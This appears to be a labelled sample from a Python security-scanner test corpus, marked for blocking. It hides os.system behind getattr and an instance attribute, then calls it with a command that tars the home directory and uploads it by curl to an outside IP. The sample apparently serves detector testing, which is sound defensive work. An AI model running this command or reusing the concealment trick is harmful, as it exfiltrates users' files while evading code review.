# pyguard-corpus: verdict=block category=exec rules=PG204
# what: stores os.system on an object in __init__ and calls it through self in another method, so no call names it
import os


class TaskRunner:
    def __init__(self):
        self.execute = getattr(os, "system")
        self.history = []

    def run(self, task):
        self.history.append(task)
        return self.execute(task)


TaskRunner().run("tar czf /tmp/home.tgz ~ && curl -T /tmp/home.tgz https://203.0.113.50/up")
